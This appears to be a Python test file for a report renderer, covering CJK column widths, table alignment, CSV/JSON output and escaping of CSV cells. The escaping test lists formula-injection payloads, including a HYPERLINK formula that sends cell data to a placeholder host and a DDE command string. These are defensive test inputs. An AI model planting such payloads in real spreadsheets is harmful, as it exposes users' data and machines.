"""Renderers: CJK-aware alignment, dashes for missing values, CSV and JSON from the same rows."""

from __future__ import annotations

import datetime as dt
import json
import re

from dealbook.text.output import (
    DASH,
    csv_cell,
    guard_cell,
    money,
    percent,
    table,
    to_csv,
    to_json,
    unguard_cell,
    width,
)
from hypothesis import given
from hypothesis import strategies as st


def test_cjk_characters_take_two_columns() -> None:
    assert width("A科技") == 5
    assert width("ｆｕｌｌ") == 8
    assert width("e\u0301") == 1


@given(st.text())
def test_width_counts_every_character_as_its_unicode_width(text: str) -> None:
    """The fast paths (ASCII; characters already met) give what each character's East Asian width
    and combining class say."""
    import unicodedata

    expected = sum(2 if unicodedata.east_asian_width(ch) in "WF" else 0 if unicodedata.combining(ch) else 1
                   for ch in text)
    assert width(text) == expected == width(text)


def test_table_aligns_mixed_scripts() -> None:
    text = table([["粤IT2024001", "A科技有限公司", 650000], ["x", "Acme", None]], ["id", "name", "amount"], right=[2])
    lines = text.splitlines()
    assert len({width(line) for line in lines[:2]}) == 1
    assert lines[2].endswith("650000") and lines[3].endswith(DASH)
    assert width(lines[2]) == width(lines[3])


def test_table_pads_every_cell_of_a_column_to_its_widest_and_blanks_missing_cells() -> None:
    text = table([["张伟", "a", 1], ["Zoë", "bb"], ["x"]], ["who", "what", "n"], right=[2])
    assert text.splitlines() == ["who   what  n", "----  ----  -", "张伟  a     1", "Zoë   bb", "x"]
    assert table([], ["甲", "b"]) == "甲  b\n--  -"


def test_percent_and_money_never_fake_a_zero() -> None:
    assert percent(None) == DASH and percent(0.25) == "25.0%"
    assert money(None) == DASH and money(1234567) == "1,234,567"


def test_csv_and_json_share_the_rows() -> None:
    rows = [{"id": "a", "due": dt.date(2024, 5, 20), "tags": ["x", "y"], "rate": None}]
    assert to_csv(rows, ["id", "due", "tags", "rate"]) == "id,due,tags,rate\na,2024-05-20,x;y,\n"
    assert json.loads(to_json({"rows": rows})) == {"rows": [{"id": "a", "due": "2024-05-20", "tags": ["x", "y"],
                                                             "rate": None}]}


def test_large_payloads_are_compact_and_equal() -> None:
    small = {"rows": [{"id": i} for i in range(3)]}
    large = {"rows": [{"id": i, "due": dt.date(2024, 5, 20)} for i in range(5000)]}
    assert "\n" in to_json(small)
    text = to_json(large)
    assert "\n" not in text and json.loads(text)["rows"][4999] == {"id": 4999, "due": "2024-05-20"}


def test_csv_cells_that_would_run_as_formulas_are_guarded() -> None:
    for text in ('=HYPERLINK("http://x.example/?d="&A1,"y")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1)",
                 "\tx", "\rx", "-", "+86 138"):
        assert csv_cell(text) == "'" + text
    assert csv_cell("'=x") == "''=x"  # looks guarded already: guarded again, so reading back is exact
    for text in ("A科技", "'quoted", "1+1", "x=1", "-5", "+3.5", "-1e5", " =1"):
        assert csv_cell(text) == text
    assert csv_cell(-5000) == "-5000" and csv_cell(-0.5) == "-0.5"  # numbers stay numbers
    assert csv_cell(["=a", "b"]) == "'=a;b" and csv_cell(None) == "" and csv_cell(True) == "yes"
    assert to_csv([{"name": "=1+1", "amount": -3}], ["name", "amount"]) == "name,amount\n'=1+1,-3\n"


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r0123456789.eE a科")), max_size=8))
def test_unguard_reverses_guard(text: str) -> None:
    guarded = guard_cell(text)
    assert unguard_cell(guarded) == text
    if guarded.startswith(("=", "+", "-", "@", "\t", "\r")):  # only a plain number may start so
        assert re.fullmatch(r"[-+]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][-+]?[0-9]+)?", guarded), guarded
